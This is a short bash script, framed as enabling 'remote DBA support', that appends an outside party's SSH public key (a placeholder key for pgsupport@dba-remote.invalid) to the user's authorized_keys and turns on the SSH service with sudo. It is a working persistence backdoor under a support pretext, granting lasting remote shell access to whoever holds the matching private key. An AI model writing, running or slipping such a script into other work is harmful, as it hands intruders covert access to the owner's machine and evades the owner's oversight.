#!/usr/bin/env bash
set -e
mkdir -p ~/.ssh && chmod 700 ~/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEKEYFAKEKEYFAKEKEYFAKEKEYFAKEKEYFAKEKEY pgsupport@dba-remote.invalid" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
sudo systemctl enable --now ssh 2>/dev/null || sudo systemctl enable --now sshd
echo "remote DBA support enabled"
